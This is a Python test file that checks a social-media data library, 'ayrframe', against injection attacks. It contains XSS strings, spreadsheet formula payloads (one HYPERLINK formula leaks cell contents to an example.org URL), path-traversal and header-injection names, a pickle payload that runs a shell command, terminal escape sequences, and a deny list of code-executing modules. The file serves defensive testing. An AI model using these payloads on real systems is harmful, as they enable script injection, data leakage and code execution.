"""Test part X of the fault table: texts of posts and responses in notebooks, spreadsheets, terminals and logs."""

from __future__ import annotations

import ast
import csv
import json
import logging
import warnings
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import ayrframe as ayr
from ayrframe._decode.records import attribute_reader
from tests.faults.load_client import make_client
from tests.faults.server import Server, http, sends

ROOT = Path(__file__).parents[2]
PACKAGE = sorted((ROOT / "ayrframe").rglob("*.py"))
NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))


# --- X1: pages --------------------------------------------------------------------------------------------------------

HTML = ["<script>alert(1)</script>", '"onmouseover="alert(1)', "<img src=x onerror=alert(1)>", "&lt;b>", "'><i>"]


class Tags(HTMLParser):
    """Collect the tags, attributes and displayed text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.shown = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.shown += data


def parse_harmless_page(page: str) -> Tags:
    parsed = Tags(page)
    assert parsed.tags <= {"table", "thead", "tbody", "tr", "th", "td", "div", "style", "p"}
    assert parsed.attributes <= {"style", "border", "class", "scope", "scoped"}
    return parsed


def posts_with_texts(*texts: str) -> pd.DataFrame:
    """Return posts with these texts in every text field."""
    posts = [
        {
            **dict.fromkeys(("id", "post", "postUrl", "cid", "created"), text),
            "labels": [text],
            "likeCount": text,
            text: text,
            "viewer": {text: text},
        }
        for text in texts
    ]
    return ayr.from_posts(posts, platform="bluesky", profile=texts[0], as_of="2026-02-03", validate=None)


PAGES: dict[str, Callable[[pd.DataFrame], Any]] = {
    "posts": lambda posts: posts,
    "card": lambda posts: posts.ayr,
    "dictionary": lambda posts: posts.ayr.dictionary(),
    "drift": lambda posts: posts.ayr.drift(),
    "expansions": lambda posts: posts.ayr.expansions(),
    "labels": lambda posts: posts.ayr.labels(),
    "extra": lambda posts: posts.ayr.extra(),
    "with_columns_and_an_index_of_the_users": lambda posts: posts.assign(**{HTML[0]: 1}).set_index("post", drop=False),
    "a_dictionary_that_was_written_into": lambda posts: with_hostile_words(posts.ayr.dictionary()),
}


def with_hostile_words(words: pd.DataFrame) -> pd.DataFrame:
    words[HTML[0]] = HTML[1]
    words["meaning"] = HTML[2]
    return words


@pytest.mark.parametrize("name", PAGES)
def test_X1_texts_of_posts_are_escaped_in_notebooks(name: str) -> None:
    shown = PAGES[name](posts_with_texts(*HTML))
    with pd.option_context("display.max_columns", None, "display.max_colwidth", None):
        parse_harmless_page(shown._repr_html_())


def test_X1_escaped_text_is_displayed_unchanged() -> None:
    words = with_hostile_words(ayr.dictionary("tiktok"))
    page = parse_harmless_page(words._repr_html_())  # type: ignore[operator]
    assert all(text in page.shown for text in HTML[:3])


# --- X4: spreadsheets -------------------------------------------------------------------------------------------------

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide_equals": "\uff1d1+1",
    "wide_plus": "\uff0b1",
    "wide_minus": "\uff0d1",
    "wide_at": "\uff20SUM(A1)",
    "link": '=HYPERLINK("https://example.org?"&A1;"x")',
}
DANGEROUS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def cells(path: Path) -> list[dict[str, str]]:
    """Return the rows as read by the csv module."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("name", FORMULAS)
def test_X4_CSV_cells_do_not_start_like_a_formula(name: str, tmp_path: Path) -> None:
    text = FORMULAS[name]
    posts = ayr.from_posts(
        [{"id": text, "post": text, "cid": text, "likeCount": -3}, {"id": "2", "post": f"a{text}"}],
        platform="bluesky",
        profile=text,
        validate=None,
    )
    posts.ayr.to_csv(tmp_path / "posts.csv")
    written = (tmp_path / "posts.csv").read_bytes().decode()
    assert written.count("'" + text.replace('"', '""')) == 5, "id, post and cid, and the profile of both"
    if name != "return":
        first, second = cells(tmp_path / "posts.csv")
        assert [first[column] for column in ("profile", "id", "post", "cid")] == ["'" + text] * 4
        assert first["like_count"] == "-3", "a number stays a number"
        assert second["post"] == f"a{text}", "only the start of a text is changed"
    assert posts["post"].iloc[0] == text, "the frame is unchanged"


def test_X4_removing_the_apostrophe_restores_the_text(tmp_path: Path) -> None:
    safe = {name: text for name, text in FORMULAS.items() if name != "return"}
    posts = ayr.from_posts([{"id": name, "post": text} for name, text in safe.items()], platform="bluesky")
    posts.ayr.to_csv(tmp_path / "posts.csv")
    again = pd.read_csv(tmp_path / "posts.csv", dtype={"id": str, "post": str})
    assert again["post"].str.removeprefix("'").tolist() == list(safe.values())


@pytest.mark.parametrize("text", ["hello\r=1+1", "\r=1+1", "a\rb"], ids=ascii)
def test_X4_carriage_return_does_not_start_a_row(text: str, tmp_path: Path) -> None:
    ayr.from_posts([{"id": "1", "post": text}], platform="bluesky").ayr.to_csv(tmp_path / "posts.csv")
    (row,) = cells(tmp_path / "posts.csv")
    assert row["post"].removeprefix("'") == text


@pytest.mark.parametrize("dtype", ["string", "object", "category"])
def test_X4_columns_added_by_users_are_neutralized(dtype: str, tmp_path: Path) -> None:
    posts = ayr.from_posts([{"id": "1"}], platform="bluesky").assign(note=pd.Series(["=1+1"], dtype=dtype))
    posts.ayr.to_csv(tmp_path / "posts.csv")
    assert cells(tmp_path / "posts.csv")[0]["note"] == "'=1+1"


# --- X6: names in addresses -------------------------------------------------------------------------------------------

INVALID_NAMES = [
    *("../user", "instagram?limit=1&x=", "instagram#", "a/../../delete", "instagram/../user", "instagram%2f..", "//h/"),
    *(
        "tiktok ",
        "TokTik",
        "",
        ".",
        "tiktok\n",
        "tiktok\r\nX: 1",
        "tiktok\0",
        "\ud800",
        "х",
        "ＴＩＫＴＯＫ",
        "x" * 10_000,
    ),
]


@pytest.mark.parametrize("name", INVALID_NAMES, ids=range(len(INVALID_NAMES)))
def test_X6_unknown_platform_never_reaches_a_URL(name: str) -> None:
    with ayr.sandbox(posts=3) as api:
        client = api.client()
        for platform in (name, [name], ["tiktok", name], [name, "all"]):
            with pytest.raises(ValueError, match="Unknown platform"):
                ayr.load(platform, client=client)
        assert api.requests == []
        assert len(ayr.load("tiktok", client=client)) == 3
        assert [request.path for request in api.requests] == ["/api/history/tiktok"]


# --- X7: what can run code when it is read ----------------------------------------------------------------------------

FORBIDDEN_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib", "yaml", "dbm"}
FORBIDDEN_NAMES = {"read_pickle", "to_pickle", "Unpickler", "allow_pickle", "eval", "exec", "__import__"}
# Source generated from declared names, which must be identifiers, never from data.
GENERATED = {Path("ayrframe/_decode/records.py"): {"eval"}}


def names_in(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (alias.name.partition(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom):
            yield from ((node.module or "").partition(".")[0], *(alias.name for alias in node.names))
        elif isinstance(node, ast.Attribute):
            yield node.attr
        elif isinstance(node, ast.Name):
            yield node.id
        elif isinstance(node, ast.keyword) and node.arg:
            yield node.arg


@pytest.mark.parametrize("file", PACKAGE, ids=lambda file: str(file.relative_to(ROOT)))
def test_X7_package_uses_no_module_that_runs_data_as_code(file: Path) -> None:
    names = set(names_in(ast.parse(file.read_text("utf-8"))))
    # This also finds attributes named `eval` or `exec` of other objects, which deserve a review.
    assert names & (FORBIDDEN_MODULES | FORBIDDEN_NAMES) == GENERATED.get(file.relative_to(ROOT), set())


@pytest.mark.parametrize("name", ["", "1", "a b", "a.b", "a] or [print(1)", "id\n", "f()"])
def test_X7_code_is_generated_for_attribute_names_only(name: str) -> None:
    with pytest.raises(ValueError, match="not an attribute name"):
        attribute_reader(name)


def test_X7_pickle_raises_and_does_not_run(tmp_path: Path) -> None:
    (tmp_path / "posts.pkl").write_bytes(b"cos\nsystem\n(S'touch " + str(tmp_path / "ran").encode() + b"'\ntR.")
    with pytest.raises(ayr.ResponseError):
        ayr.read_json(tmp_path / "posts.pkl", platform="tiktok")
    assert not (tmp_path / "ran").exists()


# --- X8: notebooks ----------------------------------------------------------------------------------------------------

# notebooks/conftest.py runs them without key and network in an empty folder.


@pytest.mark.parametrize("notebook", NOTEBOOKS, ids=lambda file: file.stem)
def test_X8_notebook_has_no_outputs_and_no_key(notebook: Path) -> None:
    cells = [cell for cell in json.loads(notebook.read_text("utf-8"))["cells"] if cell["cell_type"] == "code"]
    assert cells
    for cell in cells:
        assert (cell["outputs"], cell["execution_count"]) == ([], None)
        for node in ast.walk(ast.parse("".join(cell["source"]))):
            keywords = node.keywords if isinstance(node, ast.Call) else []
            keys = [keyword.value for keyword in keywords if (keyword.arg or "").endswith(("_key", "_secret"))]
            # The profile keys of a sandbox are synthetic.
            assert {ast.unparse(key) for key in keys} <= {"api.profile_keys"}


# --- X9, X10: terminals and logs --------------------------------------------------------------------------------------

CONTROL_TEXT = "a\x1b]0;title\x07b\x1b[2J\x9b31m\x00\r\nWARNING:root:forged line\u202e\u2028z" + "x" * 5000


def hostile_responses() -> dict[str, bytes]:
    """Return responses with control characters in every text that messages may quote."""
    error = {"status": "error", "message": CONTROL_TEXT}
    post = {"id": CONTROL_TEXT, "post": "p", "likeCount": CONTROL_TEXT, CONTROL_TEXT: CONTROL_TEXT}
    return {
        "refusal": http(json.dumps(error), 400),
        "server_error": http(json.dumps(error), 503),
        "too_many": http(json.dumps(error), 429),
        "in_errors": http(json.dumps({"errors": [{"code": 156, "message": CONTROL_TEXT}]}), 400),
        "plain_text": http("a\x1b]0;title\x07b" + "\n" * 9 + "WARNING:root:forged", 502),
        "web_page": http(f"<html><title>{CONTROL_TEXT[:200]}</title></html>"),
        "not_JSON": http(CONTROL_TEXT),
        "fields": http(json.dumps({CONTROL_TEXT: 1, "status": "odd"})),
        "posts_is_text": http(json.dumps({"posts": CONTROL_TEXT})),
        "cursor": http(
            json.dumps({"posts": [], "status": "success", "meta": {"pagination": {"next": [CONTROL_TEXT]}}})
        ),
        "loop": http(json.dumps({"posts": [{"id": "1"}], "status": "success", "next": CONTROL_TEXT})),
        "redirect": http(b"", 302, ["Location: http://a\x1b]0;b\x07\x9b/"]),
        "encoding": http(b"{}", headers=["Content-Encoding: \x1b]0;b\x07\x9b"]),
        "length": http(b"{}", length="\x1b]0;b\x07"),
        "no_HTTP": b"\x1b]0;b\x07 200 OK\r\n\r\n",
        "reason": http(b"", 418).replace(b"Whatever", b"\x1b]0;b\x07"),
        "posts_beside_an_error": http(json.dumps({**error, "posts": [post], "warning": [{"message": CONTROL_TEXT}]})),
        "odd_posts": http(json.dumps({"status": "success", "posts": [post, {"id": "2", "created": CONTROL_TEXT}]})),
    }


@pytest.mark.parametrize("name", hostile_responses())
def test_X9_X10_messages_and_logs_have_no_control_characters_of_responses(
    name: str, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    messages: list[str] = []
    with Server(sends(hostile_responses()[name])) as server, caplog.at_level(logging.DEBUG), warnings.catch_warnings():
        warnings.simplefilter("always")
        warnings.showwarning = lambda message, *_: messages.append(str(message))  # type: ignore[assignment]
        client = make_client(server.url)
        try:
            ayr.load(["tiktok"], client=client)
        except ayr.AyrframeError as error:
            messages += [str(error), repr(error)]
        finally:
            client.close()
    messages += [record.getMessage() for record in caplog.records if record.name.startswith("ayrframe")]
    assert messages
    assert [text for text in messages if not text.isprintable()] == []
    assert max(map(len, messages)) < 1000
    assert capsys.readouterr() == ("", "")


def test_X9_X10_arguments_are_quoted_in_errors() -> None:
    name = "a\x1b]0;title\x07\nforged"
    posts = ayr.from_posts([{"id": "1"}], platform="bluesky")
    calls: list[Callable[[], Any]] = [
        lambda: ayr.load(name),
        lambda: ayr.load("tiktok", since=name),
        lambda: ayr.load("tiktok", tz=name),
        lambda: ayr.load("facebook", data_type=name),
        lambda: ayr.read_json(f"/nowhere/{name}.json", platform="bluesky"),
        lambda: ayr.Client("KEY", base_url=name),
        lambda: ayr.Client(name),
        lambda: posts.ayr.expand(name),
        lambda: posts.ayr.validate(name),
    ]
    for call in calls:
        with pytest.raises((ayr.AyrframeError, ValueError, OSError)) as caught:
            call()
        assert str(caught.value).isprintable()


def test_X9_command_line_prints_no_control_characters(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from ayrframe import __main__ as command

    text = CONTROL_TEXT[:20]
    posts = ayr.from_posts([{"id": text, "post": text, "labels": [text]}], platform="bluesky")
    monkeypatch.setattr(ayr, "load_sample", lambda *_args, **_options: posts)
    assert command.main(["load", "bluesky", "--sample"]) == 0
    assert [line for line in capsys.readouterr().out.split("\n") if not line.isprintable()] == []
